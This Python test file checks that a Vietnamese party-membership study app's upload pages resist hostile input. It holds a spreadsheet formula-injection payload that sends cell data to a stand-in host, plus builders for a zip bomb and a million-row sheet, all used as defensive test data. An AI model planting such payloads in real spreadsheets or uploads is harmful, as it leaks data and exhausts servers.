"""The study imports against hostile input: what an attacker would try on the upload pages.

- Out of scope is absent: the Vinh officer's files never name a member, a cell or a unit of
  Nghi Lộc, and a Nghi Lộc code is answered exactly as a code that does not exist.
- Numbers beyond any database integer are a row/column error, never a 500.
- Templates carry no live formula: user text beginning with ``=`` is written as text and reads
  back unchanged.
- A zip bomb, a million empty rows and a formula saved without its value are refused in
  Vietnamese before anything is parsed or written; a file too large is 413.
- A file of many bad rows answers with the first 100 errors and a count of the others.
"""

from __future__ import annotations

import functools
import io
import time
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import reverse

from tests.conftest import Personas, Units
from tests.documents.test_tables import xlsx
from tests.study.test_conferences import DAY, ClientFor, counts, make_fresh_plan, register, today
from tinhuy.audit.models import AuditEvent
from tinhuy.org.actions import UnitSpec, do_create_units
from tinhuy.org.models import Unit
from tinhuy.study.actions import (
    ConferenceSpec,
    MemberSpec,
    SegmentSpec,
    do_load_members,
    do_register_conference,
)
from tinhuy.study.models import Attendance, Conference, Member, Plan

ATTENDANCE_HEADER = "Số thẻ đảng viên,Điểm danh,Lý do vắng"
MEMBER_HEADER = "Họ và tên,Số thẻ đảng viên,Mã chi bộ"
INJECTION = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'


@pytest.fixture
def fresh_plan(units: Units, personas: Personas) -> Plan:
    return make_fresh_plan(units, personas)


@pytest.fixture
def vinh(personas: Personas, client_for: ClientFor) -> Client:
    return client_for(personas.vinh_officer)


@pytest.fixture
def nghiloc_member(units: Units, personas: Personas) -> Member:
    """Hồ Thị Em, loaded by Nghi Lộc's officer on a Nghi Lộc cell."""
    do_load_members(
        units.structure_2020,
        [MemberSpec("2900001", "Hồ Thị Em", units.nghiloc_cell)],
        acting_user=personas.nghiloc_officer,
    )
    return Member.objects.get(member_code="2900001")


@pytest.fixture
def vinh_members(units: Units, personas: Personas) -> None:
    do_load_members(
        units.structure_2020,
        [
            MemberSpec("0100001", "Nguyễn Văn An", units.vinh_cell),
            MemberSpec("0100002", "Trần Thị Bình", units.vinh_cell),
        ],
        acting_user=personas.vinh_officer,
    )


@pytest.fixture
def grassroots_conference(
    fresh_plan: Plan, units: Units, personas: Personas, vinh_members: None
) -> Conference:
    return register(fresh_plan, units.vinh_grassroots, today() - 3 * DAY, personas.vinh_officer)


def written() -> tuple[int, int, int, int, int]:
    return (
        *counts()[:2],
        Member.objects.count(),
        Attendance.objects.count(),
        AuditEvent.objects.count(),
    )


def post(client: Client, url: str, content: bytes, name: str) -> Any:
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


def messages_of(response: Any) -> list[str]:
    errors = [e.message for e in response.context["errors"]]
    return errors or [str(e) for e in response.context["form"].errors.get("file", [])]


def members_url(unit: Unit) -> str:
    return reverse("study_members_upload", args=[unit.id])


def attendance_url(conference: Conference) -> str:
    return reverse("study_conference_attendance", args=[conference.id])


def report_url(plan: Plan) -> str:
    return reverse("study_report_upload", args=[plan.id])


def csv(header: str, *rows: str) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode()


# Out of scope is absent -----------------------------------------------------------------------


def test_a_members_file_never_names_a_member_loaded_outside_the_officers_scope(
    units: Units, vinh: Client, nghiloc_member: Member
) -> None:
    """Nghi Lộc's card number in a file for Vinh's own cell: refused (a card number is unique),
    but neither her name nor her cell is told."""
    before = written()

    response = post(
        vinh,
        members_url(units.vinh),
        csv(MEMBER_HEADER, f"Hồ Thị Em,2900001,{units.vinh_cell.code}"),
        "dv.csv",
    )

    assert response.status_code == 400
    assert written() == before
    (message,) = messages_of(response)
    assert message.startswith("Dòng 2, cột “Số thẻ đảng viên”: số thẻ “2900001” đã có")
    page = response.content.decode()
    assert "429-" not in page
    assert "Hồ Thị Em" not in message
    assert units.nghiloc_cell.name not in page


def test_the_province_office_is_still_told_where_the_member_is(
    units: Units, personas: Personas, client_for: ClientFor, nghiloc_member: Member
) -> None:
    """The rule hides only what is outside the caller's scope."""
    response = post(
        client_for(personas.province_office),
        members_url(units.vinh),
        csv(MEMBER_HEADER, f"Hồ Thị Em,2900001,{units.vinh_cell.code}"),
        "dv.csv",
    )

    (message,) = messages_of(response)
    assert f"đã sinh hoạt ở chi bộ “{units.nghiloc_cell.code}”" in message


def test_a_cell_outside_the_officers_scope_is_answered_as_a_cell_that_does_not_exist(
    units: Units, vinh: Client
) -> None:
    def message_for(code: str) -> str:
        response = post(
            vinh, members_url(units.vinh), csv(MEMBER_HEADER, f"Hồ Văn Em,0100005,{code}"), "dv.csv"
        )
        assert response.status_code == 400
        (message,) = messages_of(response)
        return message.replace(code, "…")

    assert message_for(units.nghiloc_cell.code) == message_for("999-KHONG-CO")
    assert "không có chi bộ mã" in message_for(units.nghiloc_cell.code)


def test_a_cell_in_scope_but_outside_the_unit_is_named_as_outside_it(
    units: Units, personas: Personas, client_for: ClientFor
) -> None:
    response = post(
        client_for(personas.province_office),
        members_url(units.vinh),
        csv(MEMBER_HEADER, f"Hồ Văn Em,0100005,{units.nghiloc_cell.code}"),
        "dv.csv",
    )

    (message,) = messages_of(response)
    assert message == (
        f"Dòng 2, cột “Mã chi bộ”: chi bộ “{units.nghiloc_cell.code}” không thuộc {units.vinh.name}."
    )


def test_an_attendance_file_answers_a_member_outside_scope_as_a_card_never_loaded(
    vinh: Client, grassroots_conference: Conference, nghiloc_member: Member
) -> None:
    before = written()

    def message_for(code: str) -> str:
        response = post(
            vinh,
            attendance_url(grassroots_conference),
            csv(ATTENDANCE_HEADER, f"{code},Có mặt,"),
            "dd.csv",
        )
        assert response.status_code == 400
        (message,) = messages_of(response)
        return message.replace(code, "…")

    assert message_for("2900001") == message_for("0999999")
    assert "Hồ Thị Em" not in message_for("2900001")
    assert written() == before


def test_a_report_row_for_a_unit_outside_scope_is_answered_as_an_unknown_code(
    fresh_plan: Plan, units: Units, vinh: Client
) -> None:
    from tests.study.test_report_upload import as_bytes, download, fill, held

    def message_for(code: str) -> str:
        workbook = download(vinh, fresh_plan, units.vinh.id)
        fill(workbook, 2, code=code, **held(today() - 2 * DAY, length=2))
        response = post(vinh, report_url(fresh_plan), as_bytes(workbook), "bc.xlsx")
        assert response.status_code == 400
        (message,) = messages_of(response)
        return message.replace(code, "…")

    assert message_for(units.nghiloc.code) == message_for("999")


# Numbers beyond any integer -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "column"),
    [
        ("expected", "100000000000000000000", "Số người phải dự"),
        ("attended", "9223372036854775808", "Số người dự"),
        ("expected", 10**20, "Số người phải dự"),
        ("reflections", "2147483648", "Số bài thu hoạch"),
        ("length", "9223372036854775808", "Thời lượng (buổi)"),
        ("length", 40000, "Thời lượng (buổi)"),
    ],
)
def test_a_number_beyond_the_database_integers_is_a_cell_error_not_a_500(
    fresh_plan: Plan, units: Units, vinh: Client, field: str, value: object, column: str
) -> None:
    from tests.study.test_report_upload import as_bytes, download, fill, held

    workbook = download(vinh, fresh_plan, units.vinh.id)
    values = held(today() - 2 * DAY, length=2)
    values[field] = value
    fill(workbook, 2, **values)
    before = written()

    response = post(vinh, report_url(fresh_plan), as_bytes(workbook), "bc.xlsx")

    assert response.status_code == 400
    assert written() == before
    messages = messages_of(response)
    assert any(m.startswith(f"Dòng 2, cột “{column}”: số quá lớn") for m in messages), messages


# No live formula in a template ----------------------------------------------------------------


def cells_of(content: bytes, sheet: str) -> list[Any]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in workbook[sheet].iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(content: bytes, sheet: str, text: str) -> None:
    cells = cells_of(content, sheet)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + text in [c.value for c in cells]


def test_the_report_template_writes_user_text_as_text_and_reads_it_back_unchanged(
    fresh_plan: Plan, units: Units, personas: Personas, vinh: Client
) -> None:
    """A registered venue and presenter beginning with “=” are pre-filled as text; filled in
    with the numbers, the row is accepted: the registration reads back unchanged."""
    day = today() - 3 * DAY
    segment = SegmentSpec("own_plan", INJECTION, "secretary", units.vinh_grassroots, "Bí thư", 1)
    do_register_conference(
        fresh_plan,
        ConferenceSpec(units.vinh_grassroots, day, 1, venue=INJECTION, segments=(segment,)),
        acting_user=personas.vinh_officer,
    )
    response = vinh.get(
        reverse("study_report_template", args=[fresh_plan.id]), {"don_vi": units.vinh.id}
    )
    assert_no_formula(response.content, "Báo cáo", INJECTION)

    from tests.study.test_report_upload import fill, row_of

    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    fill(workbook, row_of(workbook, units.vinh_grassroots.code), expected=30, attended=30)
    out = io.BytesIO()
    workbook.save(out)
    response = post(vinh, report_url(fresh_plan), out.getvalue(), "bc.xlsx")
    assert response.status_code == 200, messages_of(response)


def test_the_attendance_template_writes_a_members_name_as_text(
    units: Units, personas: Personas, vinh: Client, grassroots_conference: Conference
) -> None:
    do_load_members(
        units.structure_2020,
        [MemberSpec("0100009", INJECTION, units.vinh_cell)],
        acting_user=personas.vinh_officer,
    )
    response = vinh.get(reverse("study_attendance_template", args=[grassroots_conference.id]))
    assert_no_formula(response.content, "Điểm danh", INJECTION)


def test_the_members_template_writes_a_cells_name_as_text(
    units: Units, personas: Personas, vinh: Client
) -> None:
    do_create_units(
        units.structure_2020,
        [UnitSpec("412-CS01-CB99", INJECTION, units.vinh_cell.level.code, "cell", "412-CS01")],
        acting_user=personas.province_office,
    )
    response = vinh.get(reverse("study_members_template", args=[units.vinh.id]))
    assert_no_formula(response.content, "Chi bộ", INJECTION)


# Hostile files ------------------------------------------------------------------------------


def with_sheet_xml(source: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as original,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z,
    ):
        for info in original.infolist():
            content = original.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = edit(content)
            z.writestr(info.filename, content)
    return out.getvalue()


@functools.cache
def zip_bomb() -> bytes:
    """A few hundred KB holding 1.5 million rows (≈ 90 MB of XML)."""
    chunk = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(2, 102)
    ).encode()
    return with_sheet_xml(
        xlsx([["Số thẻ đảng viên"]]),
        lambda xml: xml.replace(b"</sheetData>", chunk * 15_000 + b"</sheetData>"),
    )


@functools.cache
def empty_rows() -> bytes:
    rows = "".join(f'<row r="{n}"/>' for n in range(3, 1_000_003)).encode()
    return with_sheet_xml(
        xlsx([["Số thẻ đảng viên", "Điểm danh"], ["0100001", "Có mặt"]]),
        lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>"),
    )


def uncomputed_formula() -> bytes:
    # openpyxl saves a formula without its value, as some programs do.
    return xlsx([["Số thẻ đảng viên", "Điểm danh"], ["=0100001+0", "Có mặt"]])


HOSTILE = {
    "zip bomb": (zip_bomb, "giải nén"),
    "a million empty rows": (empty_rows, "dòng dữ liệu"),
    "a formula without its value": (uncomputed_formula, "công thức chưa được tính"),
}


@pytest.fixture(params=["report", "members", "attendance"])
def upload_page(
    request: pytest.FixtureRequest,
    fresh_plan: Plan,
    units: Units,
    grassroots_conference: Conference,
) -> str:
    return {
        "report": report_url(fresh_plan),
        "members": members_url(units.vinh),
        "attendance": attendance_url(grassroots_conference),
    }[request.param]


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_a_hostile_xlsx_is_refused_in_vietnamese_and_writes_nothing(
    vinh: Client, upload_page: str, kind: str
) -> None:
    make, fragment = HOSTILE[kind]
    content = make()
    assert len(content) < 5 * 1024 * 1024  # it passes the upload size limit
    before = written()

    started = time.perf_counter()
    response = post(vinh, upload_page, content, "tep.xlsx")
    elapsed = time.perf_counter() - started

    assert response.status_code == 400
    assert written() == before
    messages = messages_of(response)
    assert any(fragment in m for m in messages), messages
    assert elapsed < 5  # a bound on the refusal (the parser never sees the rows), not a benchmark


def test_a_file_over_the_size_limit_is_413(vinh: Client, upload_page: str) -> None:
    before = written()
    with override_settings(TINHUY_IMPORT_MAX_BYTES=1024):
        response = post(vinh, upload_page, b"x" * 2048, "tep.csv")
    assert response.status_code == 413
    assert "Tệp quá lớn" in messages_of(response)[0]
    assert written() == before


# Capped errors ------------------------------------------------------------------------------


def test_a_members_file_of_many_bad_rows_lists_the_first_100_and_counts_the_rest(
    units: Units, vinh: Client
) -> None:
    rows = [f"Hồ Văn Em,01{n:05},999-KHONG-CO" for n in range(250)]
    before = written()

    response = post(vinh, members_url(units.vinh), csv(MEMBER_HEADER, *rows), "dv.csv")

    assert response.status_code == 400
    assert written() == before
    messages = messages_of(response)
    assert len(messages) == 101
    assert messages[-1].startswith("… và 150 lỗi khác")
    assert "Tệp có 250 lỗi" in response.content.decode()


def test_an_attendance_file_of_many_bad_rows_lists_the_first_100(
    vinh: Client, grassroots_conference: Conference
) -> None:
    rows = [f"09{n:05},Đi muộn," for n in range(300)]

    response = post(
        vinh, attendance_url(grassroots_conference), csv(ATTENDANCE_HEADER, *rows), "dd.csv"
    )

    assert response.status_code == 400
    messages = messages_of(response)
    assert len(messages) == 101
    assert messages[-1].startswith("… và 500 lỗi khác")  # two errors per row: status and member
